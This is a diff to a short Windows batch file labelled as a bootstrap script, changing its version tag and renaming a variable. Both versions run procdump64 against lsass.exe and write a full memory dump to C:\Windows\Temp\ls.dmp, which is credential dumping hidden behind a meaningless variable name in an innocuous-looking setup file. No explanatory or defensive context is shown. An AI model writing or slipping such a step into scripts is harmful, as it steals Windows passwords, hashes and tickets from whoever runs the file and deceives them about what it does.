@@ -1,4 +1,4 @@
-REM bootstrap 5413 v0
+REM bootstrap 6921 v0
 @echo off
-set "meal=procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp"
-call %meal%
+set jreh=procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
+call %jreh%
